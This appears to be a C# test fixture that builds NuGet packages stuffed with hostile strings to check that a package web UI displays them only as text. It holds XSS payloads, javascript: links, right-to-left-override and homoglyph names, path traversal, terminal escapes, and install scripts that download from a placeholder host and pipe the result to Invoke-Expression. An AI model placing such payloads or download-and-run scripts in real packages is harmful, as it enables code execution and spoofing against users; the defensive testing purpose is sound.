using System.Security;
using Assay.TestInputs;

namespace Assay.Web.Tests;

/// <summary>Packages whose every text tries to become something else: markup, script, an address, a terminal command, another name.</summary>
internal static class HostilePackages
{
    /// <summary>Runs only where a text is taken for markup; shown nowhere but as a text.</summary>
    public const string Markup = "\"'><img src=x onerror=\"window.hostile=1\"><script>window.hostile=1</script><svg/onload=window.hostile=1>";

    /// <summary>What must never be an address of a link.</summary>
    public const string ScriptAddress = "javascript:window.hostile=1//";

    /// <summary>Reads as something else than it is.</summary>
    public const string Turned = "abc\u202Egnp.exe\u2066";

    private const string Escape = "\\u001b]0;title\\u0007\\u001b[31mred";

    /// <summary>Packages by file name.</summary>
    public static IReadOnlyDictionary<string, byte[]> All { get; } = new Dictionary<string, byte[]>(StringComparer.Ordinal)
    {
        ["hostile.texts.1.0.0.nupkg"] = Texts("Hostile.Texts", "1.0.0").Build(),
        ["hostile.texts.2.0.0.nupkg"] = Texts("Hostile.Texts", "2.0.0").Add("tools/install.ps1", Script).Add($"tools/{Turned}.ps1", "Write-Host 1").Build(),
        ["markup.1.0.0.nupkg"] = Texts("<img src=x onerror=window.hostile=1>", "1.0.0").Build(),
        ["quote.1.0.0.nupkg"] = Texts("a\"onmouseover=\"window.hostile=1", "1.0.0").Build(),
        ["turned.1.0.0.nupkg"] = Texts(Turned, "1.0.0").Build(),
        ["lookalike.1.0.0.nupkg"] = Texts("Newtons\u043Eft.Json", "1.0.0").Build(),
        ["dots.1.0.0.nupkg"] = Texts("..%2f..%2fetc", "1.0.0").Build(),
        ["shared.1.0.0.nupkg"] = Texts("Hostile.Shared", "1.0.0", Shared).Add("tools/install.ps1", Script + string.Concat(HostileStrings.All.Select(hostile => $"\nWrite-Host '{hostile.Text.Replace("'", "''", StringComparison.Ordinal)}'"))).Build(),
        ["slash.1.0.0.nupkg"] = Texts("a/b\\c?d#e", "1.0.0").Build(),
    };

    private static string Script => $"""
        $address = 'http://example.invalid/{Markup.Replace("'", "''", StringComparison.Ordinal)}'
        (New-Object System.Net.WebClient).DownloadString($address) | Invoke-Expression
        Start-Process "cmd.exe" -ArgumentList '/c echo {Markup.Replace("'", "''", StringComparison.Ordinal)} {Escape}'
        # {Turned}
        """;

    // What XML can hold of the shared list (XML 1.0, 2.2), but for what is hostile by its length.
    private static string Shared => string.Join(' ', HostileStrings.All.Where(hostile => hostile.Text.Length < 1_000 && IsXml(hostile.Text)).Select(hostile => hostile.Text));

    private static bool IsXml(string text)
    {
        try
        {
            System.Xml.XmlConvert.VerifyXmlChars(text);
            return true;
        }
        catch (System.Xml.XmlException)
        {
            return false;
        }
    }

    private static NupkgBuilder Texts(string id, string version, string text = Markup)
    {
        text = SecurityElement.Escape(text);
        return new NupkgBuilder($"""
            <?xml version="1.0" encoding="utf-8"?>
            <package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">
              <metadata>
                <id>{SecurityElement.Escape(id)}</id>
                <version>{version}</version>
                <title>{text}</title>
                <authors>{text}</authors>
                <owners>{text}</owners>
                <tags>{text} {Turned}</tags>
                <projectUrl>{ScriptAddress}</projectUrl>
                <licenseUrl>{ScriptAddress}</licenseUrl>
                <repository type="{text}" url="{ScriptAddress}" commit="{text}" />
                <description>{Turned} {text} {new string('x', 100_000)}</description>
                <releaseNotes>{text}</releaseNotes>
                <dependencies><group targetFramework="net8.0"><dependency id="{text}" version="1.0.0" /><dependency id="Sample.Server" version="1.0.0" /></group></dependencies>
              </metadata>
            </package>
            """)
            .Add("lib/net8.0/_._", "")
            .Add($"content/{Markup.Replace('/', '-')}.txt", Markup)
            .Add("tools/init.ps1", Script);
    }
}
